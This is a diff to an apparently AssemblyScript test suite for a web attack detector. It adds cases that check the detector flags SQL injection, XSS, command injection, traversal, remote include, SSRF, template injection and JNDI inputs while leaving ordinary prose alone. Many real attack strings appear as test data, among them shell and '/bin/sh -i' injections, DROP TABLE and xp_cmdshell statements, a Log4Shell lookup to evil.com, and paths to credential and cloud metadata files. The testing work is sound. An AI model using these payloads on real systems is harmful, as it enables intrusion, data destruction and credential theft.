@@ -1,4 +1,4 @@
-import { AttackClass, detectAttacks, ALL_VALUE_CLASSES, lastRule } from "../attack";
+import { AttackClass, detectAttacks, ALL_VALUE_CLASSES, lastRule, detectAttackInUrlHeader } from "../attack";
 
 function bits(s: string): u32 {
   const b = String.UTF8.encode(s);
@@ -54,8 +54,12 @@ describe("traversal, rfi, cmdi", () => {
   });
   it("flags remote includes", () => {
     expect(hits("http://evil.example/shell.txt?", AttackClass.Rfi)).toBe(true);
-    expect(hits("https://evil.example/x.php", AttackClass.Rfi)).toBe(true);
+    expect(hits("https://203.0.113.5/x.php", AttackClass.Rfi)).toBe(true);
+    expect(hits("https://evil.example/shell.php", AttackClass.Rfi)).toBe(true);
     expect(hits("https://example.com/about", AttackClass.Rfi)).toBe(false);
+    // A page of a site (a profile's website, a link) is not an include.
+    expect(hits("https://ann.example.com/index.php", AttackClass.Rfi)).toBe(false);
+    expect(hits("https://shop.example.com/checkout.aspx", AttackClass.Rfi)).toBe(false);
   });
   it("flags command injection, with quote and IFS obfuscation", () => {
     const attacks: StaticArray<string> = ["; cat /etc/passwd", "| id", "&& whoami", "`id`", "$(curl http://x)", "127.0.0.1;c'a't${IFS}/etc/passwd", "x||ping -c 1 x", "%0Aid", "a;/bin/sh -i"];
@@ -95,5 +99,164 @@ describe("normalization limits", () => {
     for (let i = 0; i < 12; i++) s += s + "%u12%c0%&#x;&#99999999999;${${::-";
     expect(bits(s) >= 0).toBe(true);
     expect(lastRule.length >= 0).toBe(true);
+  });
+});
+
+describe("payload-list shapes found in the audit of issue #3", () => {
+  it("sqli: nested parentheses, bare tautologies, a lone stacked statement, JavaScript-escaped quotes", () => {
+    const attacks: StaticArray<string> = [
+      "')) or (('1'='1", "1)) or ((1=1", "or 1=1", "or 0=0 --", "' or 0=0 #", ";SHUTDOWN--", "\\u0027 OR 1=1--",
+    ];
+    for (let i = 0; i < attacks.length; i++) expect(hits(attacks[i], AttackClass.Sqli)).toBe(true, attacks[i]);
+    const benign: StaticArray<string> = ["Sleep(5) hours a night is too little", "Sleep (8 hours) is healthy", "or maybe later", "or 12 pieces", "; update: shipped"];
+    for (let i = 0; i < benign.length; i++) expect(hits(benign[i], AttackClass.Sqli)).toBe(false, benign[i]);
+  });
+  it("xss: script-string breakouts, url(javascript:) in a style, JavaScript-escaped tags", () => {
+    const attacks: StaticArray<string> = [
+      "\"-alert(1)-\"", "'-alert(1)-'", "\\\";alert(1);//", "')+confirm`1`+('", "<div style=\"background:url(javascript:alert(1))\">",
+      "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "\\x3cimg src=x onerror=alert(1)\\x3e",
+    ];
+    for (let i = 0; i < attacks.length; i++) expect(hits(attacks[i], AttackClass.Xss)).toBe(true, attacks[i]);
+    const benign: StaticArray<string> = ["She said \"-Alert the team-\" loudly", "\"Hello\" - confirm (please) your booking", "'Fetch' is what my dog does",
+      "<p style=\"color:red\">red</p>", "The style url(images/bg.png) works", "Use \\u00e9 for e-acute"];
+    for (let i = 0; i < benign.length; i++) expect(hits(benign[i], AttackClass.Xss)).toBe(false, benign[i]);
+  });
+  it("cmdi: brace expansion, wildcard paths, ${PATH:0:1} slashes, .exe names", () => {
+    const attacks: StaticArray<string> = [";{ls,-la}", ";{cat,/etc/passwd}", ";/???/??t /???/p??s??", ";cat${PATH:0:1}etc${PATH:0:1}passwd", "& powershell.exe -enc SQBFAFgA"];
+    for (let i = 0; i < attacks.length; i++) expect(hits(attacks[i], AttackClass.Cmdi)).toBe(true, attacks[i]);
+    const benign: StaticArray<string> = ["{ls, cat, dog}", "I like dogs; cat, too", "Shop #123 at 5* rating"];
+    for (let i = 0; i < benign.length; i++) expect(hits(benign[i], AttackClass.Cmdi)).toBe(false, benign[i]);
+  });
+  it("traversal to service-account tokens; rfi protocol-relative, but not links to application pages", () => {
+    expect(hits("/var/run/secrets/kubernetes.io/serviceaccount/token", AttackClass.Traversal)).toBe(true);
+    expect(hits("//evil.com/shell.php", AttackClass.Rfi)).toBe(true);
+    expect(hits("http://evil.com/shell.txt?x=1", AttackClass.Rfi)).toBe(true);
+    expect(hits("https://shop.example.com/cart.php?id=3&qty=2", AttackClass.Rfi)).toBe(false);
+    expect(hits("//cdn.example.com/lib/app.js", AttackClass.Rfi)).toBe(false);
+  });
+  it("ssrf: Kubernetes API, localhost.localdomain, IPv6 loopback with leading zeros, jar: URLs", () => {
+    const attacks: StaticArray<string> = ["http://kubernetes.default.svc/api/v1/secrets", "https://kubernetes.default/api", "http://localhost.localdomain/",
+      "http://[0000::1]:80/", "http://[0:0:0:0:0:0:0:0]/", "jar:http://127.0.0.1!/"];
+    for (let i = 0; i < attacks.length; i++) expect(hits(attacks[i], AttackClass.Ssrf)).toBe(true, attacks[i]);
+    expect(hits("http://[2001:db8::1]/", AttackClass.Ssrf)).toBe(false);
+    expect(hits("http://[1::]/", AttackClass.Ssrf)).toBe(false);
+  });
+  it("ssti: Velocity directives and Twig filters/dump", () => {
+    const attacks: StaticArray<string> = ["#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))", "{{dump(app)}}", "{{['id']|filter('system')}}", "{{_self.env.display(\"id\")}}"];
+    for (let i = 0; i < attacks.length; i++) expect(hits(attacks[i], AttackClass.Ssti)).toBe(true, attacks[i]);
+    const benign: StaticArray<string> = ["Please use #set for sets", "#hashtag #set #foreach", "Hi {{first_name}}, your order {{order_id}} shipped", "Dump truck for sale"];
+    for (let i = 0; i < benign.length; i++) expect(clean(benign[i])).toBe(true, benign[i]);
+  });
+  it("jndi: a brace written as a JavaScript escape", () => {
+    expect(hits("$\\u007bjndi:ldap://evil.com/a}", AttackClass.Jndi)).toBe(true);
+  });
+});
+
+describe("payload-list shapes found in the audit of issue #3 (second pass)", () => {
+  it("sqli: ORDER BY column probes, %a0 as a space", () => {
+    expect(hits("1 ORDER BY 1-- xYzA", AttackClass.Sqli)).toBe(true);
+    expect(hits("1'%a0or%a01=1--", AttackClass.Sqli)).toBe(true);
+    expect(hits("sort 1 order by date", AttackClass.Sqli)).toBe(false);
+  });
+  it("xss: a handler right after a backtick-quoted attribute", () => {
+    expect(hits("<img src=`xx:xx`onerror=alert(1)>", AttackClass.Xss)).toBe(true);
+  });
+  it("cmdi: empty substitutions inside a command word", () => {
+    expect(hits(";who``ami", AttackClass.Cmdi)).toBe(true);
+    expect(hits(";c$()at /etc/passwd", AttackClass.Cmdi)).toBe(true);
+  });
+  it("traversal: cloud and cluster credentials, process environments", () => {
+    const files: StaticArray<string> = ["/etc/kubernetes/admin.conf", "~/.aws/credentials", "/home/user/.bash_history", "/proc/1/environ", "../../.kube/config"];
+    for (let i = 0; i < files.length; i++) expect(hits(files[i], AttackClass.Traversal)).toBe(true, files[i]);
+  });
+  it("ssrf: circled and fullwidth host names, ideographic dots, IPv4-compatible IPv6, 192.0.0.192, Tencent metadata", () => {
+    const attacks: StaticArray<string> = ["http://ⓛⓞⓒⓐⓛⓗⓞⓢⓣ/", "http://①②⑦.⓪.⓪.①/", "http://127。0。0。1/", "http://１２７.０.０.１/", "http://[::127.0.0.1]/",
+      "http://192.0.0.192/latest/", "http://metadata.tencentyun.com/latest/meta-data/"];
+    for (let i = 0; i < attacks.length; i++) expect(hits(attacks[i], AttackClass.Ssrf)).toBe(true, attacks[i]);
+    const benign: StaticArray<string> = ["你好，我的订单号是１２３４５。请尽快发货！", "①商品を選ぶ ②カートに入れる ③購入する", "http://[::8.8.8.8]/"];
+    for (let i = 0; i < benign.length; i++) expect(clean(benign[i])).toBe(true, benign[i]);
+  });
+});
+
+function urlHeader(s: string): AttackClass { const b = String.UTF8.encode(s); return detectAttackInUrlHeader(changetype<usize>(b), b.byteLength); }
+describe("URL-valued headers (Referer)", () => {
+  it("a page address is not an include or an internal host; script and SQL in it still are attacks", () => {
+    expect(urlHeader("http://shop.example.com/cart.php")).toBe(AttackClass.None);
+    expect(urlHeader("http://localhost:3000/checkout")).toBe(AttackClass.None);
+    expect(urlHeader("http://x/<script>alert(1)</script>")).toBe(AttackClass.Xss);
+    expect(urlHeader("http://x/?id=1' or '1'='1")).toBe(AttackClass.Sqli);
+    expect(urlHeader("${jndi:ldap://evil.com/a}")).toBe(AttackClass.Jndi);
+  });
+});
+
+describe("ordinary markup tags (audit of issue #3)", () => {
+  it("<meta charset>, <link rel=stylesheet>, CSS in <style>, a search <form>, an <svg> icon are not XSS", () => {
+    const benign: StaticArray<string> = ["<meta charset=\"utf-8\">", "<link rel=\"stylesheet\" href=\"/css/site.css\">", "<style>.x { color: red; }</style>",
+      "<form action=\"/search\" method=\"get\"><input name=\"q\"></form>", "<svg width=\"24\" height=\"24\" viewBox=\"0 0 24 24\"><path d=\"M12 2L2 7l10 5z\"/></svg>"];
+    for (let i = 0; i < benign.length; i++) expect(hits(benign[i], AttackClass.Xss)).toBe(false, benign[i]);
+  });
+  it("the same tags with a script vector are", () => {
+    const attacks: StaticArray<string> = ["<style>@import 'javascript:alert(1)';</style>", "<style>*{background:url(\"javascript:alert(1)\")}</style>",
+      "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">", "<link rel=import href=\"data:text/html,x\">",
+      "<svg><set attributeName=onmouseover to=alert(1)>", "<svg><a><animate attributeName=href values=javascript:alert(1) /></a>",
+      "<form><button formaction=javascript:alert(1)>X</button>", "<style>body{behavior:url(x.htc)}</style>"];
+    for (let i = 0; i < attacks.length; i++) expect(hits(attacks[i], AttackClass.Xss)).toBe(true, attacks[i]);
+  });
+});
+
+describe("template-engine polyglots (audit of issue #3)", () => {
+  it("the delimiters of three engines at once", () => {
+    expect(hits("${{<%[%'\"}}%\\.", AttackClass.Ssti)).toBe(true);
+    expect(hits("#{7}${{x}}<%= y %>", AttackClass.Ssti)).toBe(true);
+    expect(hits("Hi {{name}}, total ${price}", AttackClass.Ssti)).toBe(false);
+  });
+});
+
+describe("prose that looks like statements or script URIs (audit of issue #3)", () => {
+  it("'; delete old files' and 'Javascript: the good parts' are prose; the SQL and script forms are not", () => {
+    expect(hits("Execute the plan; delete old files", AttackClass.Sqli)).toBe(false);
+    expect(hits("Call me; update me later", AttackClass.Sqli)).toBe(false);
+    expect(hits("Javascript: the good parts (book)", AttackClass.Xss)).toBe(false);
+    const attacks: StaticArray<string> = ["1; DROP TABLE users", "x'; DELETE FROM orders--", "'; INSERT INTO users VALUES('a','b')--", "'; update users set role='admin'--",
+      "'; exec master..xp_cmdshell 'ping 10.0.0.1'--", "1; drop database shop"];
+    for (let i = 0; i < attacks.length; i++) expect(hits(attacks[i], AttackClass.Sqli)).toBe(true, attacks[i]);
+    expect(hits("javascript: alert(1)", AttackClass.Xss)).toBe(true);
+    expect(hits("javascript:alert(1)", AttackClass.Xss)).toBe(true);
+  });
+});
+
+describe("event handlers in unquoted attributes and right after a quote (audit of issue #3)", () => {
+  it("flags handlers that call script; not prose or configuration that names one", () => {
+    const attacks: StaticArray<string> = ["x onmouseover=alert(1)", " autofocus onfocus=alert(1)", "\"onmouseover=\"alert(1)", "'onfocus='alert(1)", "x onclick=top['al'+'ert'](1)", "a onfocus=confirm`1`"];
+    for (let i = 0; i < attacks.length; i++) expect(hits(attacks[i], AttackClass.Xss)).toBe(true, attacks[i]);
+    const benign: StaticArray<string> = ["Set onboarding=true in config", "The onload=... attribute is deprecated", "onions, peppers and tomatoes", "x = online ? 1 : 0"];
+    for (let i = 0; i < benign.length; i++) expect(hits(benign[i], AttackClass.Xss)).toBe(false, benign[i]);
+  });
+});
+
+describe("quoted words in prose (audit of issue #3)", () => {
+  it("a quoted 'and' or 'strong' is not a string-closing tautology; ' or 'a still is", () => {
+    expect(hits("she said \"or\" not 'and'", AttackClass.Sqli)).toBe(false);
+    expect(hits("He's 6' 2\" and 'strong'", AttackClass.Sqli)).toBe(false);
+    expect(hits("admin' or 'a", AttackClass.Sqli)).toBe(true);
+    expect(hits("x\" or \"y", AttackClass.Sqli)).toBe(true);
+    expect(hits("1' or 1", AttackClass.Sqli)).toBe(true);
+  });
+});
+
+describe("JNDI with a dotless i (audit of issue #3)", () => {
+  it("${upper:ı} spells the I of jndi", () => {
+    expect(hits("${jnd${upper:ı}:http://evil.com/a}", AttackClass.Jndi)).toBe(true);
+  });
+});
+
+describe("best-fit slashes and URL parser confusion (audit of issue #3)", () => {
+  it("%u2215 and raw ∕ read as '/', ∖ as '\\\\'; a host hidden after #@ or ?@", () => {
+    expect(hits("..%u2215..%u2215etc%u2215passwd", AttackClass.Traversal)).toBe(true);
+    expect(hits("..∖..∖windows∖win.ini", AttackClass.Traversal)).toBe(true);
+    expect(hits("http://google.com#@127.0.0.1/", AttackClass.Ssrf)).toBe(true);
+    expect(hits("http://example.com?@169.254.169.254/", AttackClass.Ssrf)).toBe(true);
+    expect(hits("http://example.com/page#section@top", AttackClass.Ssrf)).toBe(false);
+    expect(hits("3 ∕ 4 of a cup", AttackClass.Traversal)).toBe(false);
   });
 });
